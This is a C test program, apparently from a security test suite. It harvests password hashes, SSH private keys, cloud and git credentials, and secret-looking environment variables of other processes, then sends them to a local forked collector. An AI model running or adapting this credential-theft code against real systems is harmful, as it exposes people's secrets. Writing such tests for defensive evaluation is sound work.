// SPDX-License-Identifier: GPL-2.0
/*
 * Credential theft: harvest password hashes, private keys, cloud tokens and
 * secrets in other processes' environments, and ship them to a loopback
 * "collector" (a forked child). Succeeds when the collector got at least
 * one credential file.
 */
#include "common.h"

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *const targets[] = {
	"/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa",
	"/root/.ssh/id_ed25519", "/root/.aws/credentials", "/root/.netrc",
	"/root/.bash_history", "/root/.git-credentials",
};

/* Sends one file as "FILE path size\n" + contents; returns 1 if sent. */
static int steal_file(int out, const char *path)
{
	static char buf[64 * 1024];
	char header[512];
	ssize_t n;
	int fd = open(path, O_RDONLY);

	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0)
		return 0;
	snprintf(header, sizeof(header), "FILE %s %zd\n", path, n);
	attack_write_all(out, header, strlen(header));
	attack_write_all(out, buf, (size_t)n);
	return 1;
}

/* Sends every VAR=value of other processes that looks like a secret. */
static void steal_environments(int out)
{
	static const char *const words[] = { "PASS", "TOKEN", "SECRET", "KEY" };
	DIR *proc = opendir("/proc");
	struct dirent *de;

	if (!proc)
		return;
	while ((de = readdir(proc))) {
		char path[300], env[8192];
		ssize_t n;
		int fd;

		if (!isdigit((unsigned char)de->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/environ", de->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, env, sizeof(env) - 1);
		close(fd);
		if (n <= 0)
			continue;
		env[n] = '\0';
		for (char *p = env; p < env + n; p += strlen(p) + 1) {
			for (size_t i = 0; i < ARRAY_SIZE(words); i++) {
				if (strstr(p, words[i]) && strchr(p, '=')) {
					attack_write_all(out, "ENV ", 4);
					attack_write_all(out, p, strlen(p));
					attack_write_all(out, "\n", 1);
					break;
				}
			}
		}
	}
	closedir(proc);
}

/* The attacker's end: counts what arrives, exits 0 if a file came. */
static noreturn void collector(int lfd)
{
	static char buf[256 * 1024];
	size_t got = 0, files = 0, secrets = 0;
	ssize_t n;
	int fd = accept(lfd, NULL, NULL);

	if (fd < 0)
		attack_die("accept");
	while (got < sizeof(buf) - 1 &&
	       (n = read(fd, buf + got, sizeof(buf) - 1 - got)) > 0)
		got += (size_t)n;
	buf[got] = '\0';
	for (char *p = buf; (p = strstr(p, "FILE /")); p++)
		files++;
	for (char *p = buf; (p = strstr(p, "ENV ")); p++)
		secrets++;
	printf("credtheft: collector received %zu bytes, %zu files, %zu environment secrets\n",
	       got, files, secrets);
	fflush(stdout);
	_exit(files ? 0 : 1);
}

int main(void)
{
	struct sockaddr_in addr;
	int lfd, out, status, files = 0;
	pid_t pid;

	attack_announce("credtheft", getpid());
	lfd = attack_listen(&addr);
	pid = fork();
	if (pid < 0)
		attack_die("fork");
	if (pid == 0)
		collector(lfd);
	close(lfd);

	out = attack_connect(&addr);
	for (size_t i = 0; i < ARRAY_SIZE(targets); i++)
		files += steal_file(out, targets[i]);
	steal_environments(out);
	close(out);
	printf("credtheft: sent %d credential files\n", files);
	fflush(stdout);
	if (waitpid(pid, &status, 0) < 0)
		attack_die("waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
